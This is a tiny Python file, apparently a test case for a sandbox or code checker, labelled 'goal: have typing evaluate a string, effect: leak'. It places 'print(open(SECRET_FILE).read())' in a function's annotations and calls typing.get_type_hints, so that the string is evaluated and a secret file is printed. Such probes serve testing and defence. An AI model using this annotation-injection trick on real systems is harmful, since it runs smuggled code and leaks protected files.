"""
goal: have typing evaluate a string
effect: leak
"""

import typing


def f(x: "print(open(" + repr(SECRET_FILE) + ").read())"):
    return x


f.__annotations__ = {"x": "print(open(" + repr(SECRET_FILE) + ").read())"}
typing.get_type_hints(f)
